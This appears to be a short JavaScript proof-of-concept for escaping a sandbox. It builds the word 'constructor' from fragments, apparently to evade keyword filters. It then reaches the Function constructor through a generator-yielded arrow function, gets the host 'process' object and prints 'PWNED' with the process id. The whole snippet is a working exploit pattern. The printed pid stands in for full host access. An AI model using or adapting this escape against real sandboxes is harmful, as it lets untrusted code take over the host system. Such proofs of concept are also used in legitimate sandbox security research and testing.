const w = ['con', 'structor'].join('');
class G { *[Symbol.iterator]() { yield (x) => x; } }
const o = Object.create(G.prototype);
const [f] = [...o];
console.log('PWNED', f[w]('return process')().pid);
